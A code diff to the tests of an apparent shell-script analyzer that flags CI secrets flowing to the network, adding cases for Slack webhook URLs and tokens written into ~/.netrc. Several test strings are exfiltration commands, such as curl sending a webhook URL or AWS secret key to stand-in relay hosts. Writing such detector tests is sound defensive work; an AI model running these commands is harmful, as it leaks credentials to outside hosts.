@@ -25,6 +25,7 @@ TEST_CASE("a secret piped to curl is a flow to network") {
 TEST_CASE("a secret sent to the destination the environment names for its service is not a flow") {
   for (auto script : {"curl -X POST \"$GRAFANA_URL/api/annotations\" -H \"Authorization: Bearer $GRAFANA_TOKEN\"",
                       "curl -d '{\"text\":\"ok\"}' \"$SLACK_WEBHOOK_SECRET\"",
+                      "curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"ok\"}' \"$SLACK_WEBHOOK_URL\"",
                       "git clone \"https://gitlab-ci-token:${CI_JOB_TOKEN}@${CI_SERVER_HOST}/acme/x.git\"",
                       "curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" --upload-file a.tgz \"${CI_API_V4_URL}/projects/1/packages/generic/a/1/a.tgz\"",
                       "echo \"$CI_REGISTRY_PASSWORD\" | docker login -u \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\""}) {
@@ -34,10 +35,28 @@ TEST_CASE("a secret sent to the destination the environment names for its servic
   // Another service's secret, or a destination this script sets, is still sent.
   for (auto script : {"curl -d \"$AWS_SECRET_ACCESS_KEY\" \"$GRAFANA_URL/x\"",
                       "GRAFANA_URL=$(cat /tmp/u); curl \"$GRAFANA_URL/api\" -H \"Authorization: Bearer $GRAFANA_TOKEN\"",
-                      "curl -d \"$SLACK_WEBHOOK_SECRET\" \"$OTHER_URL\""}) {
+                      "curl -d \"$SLACK_WEBHOOK_SECRET\" \"$OTHER_URL\"",
+                      // a webhook URL is its own credential: posting to it is its use, sending it elsewhere a leak
+                      "curl -s \"https://hooks.slack.com.relay.example.io/s?u=$SLACK_WEBHOOK_URL\""}) {
     INFO(script);
     CHECK(has_flow(analyze(script), "secret_var", "network"));
   }
+}
+
+TEST_CASE("a secret written into ~/.netrc is sent to the machine whose entry holds it") {
+  auto facts = analyze("printf 'machine files.sync.example.io\\n  login ci\\n  password %s\\n' \"$GITHUB_TOKEN\" > ~/.netrc");
+  const auto* flow = flow_of(facts, "secret_var", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "files.sync.example.io");
+  // Two entries: each secret goes to the host of the entry it is in.
+  facts = analyze("cat > ~/.netrc <<EOF\nmachine api.heroku.com\n  password $HEROKU_API_KEY\nmachine ci.example.net\n"
+                  "  password $CI_DEPLOY_TOKEN\nEOF\n");
+  std::vector<std::string> sent;
+  for (const auto& f : facts.flows)
+    if (f.from == "secret_var" && f.to == "network") sent.push_back(f.source + "@" + f.host);
+  std::sort(sent.begin(), sent.end());
+  CHECK(sent == std::vector<std::string>{"$CI_DEPLOY_TOKEN@ci.example.net", "$HEROKU_API_KEY@api.heroku.com"});
+  CHECK_FALSE(has_flow(analyze("echo 'machine api.heroku.com login me' > ~/.netrc"), "secret_var", "network"));
 }
 
 TEST_CASE("a secret written into a git remote's URL is sent to that remote's host") {
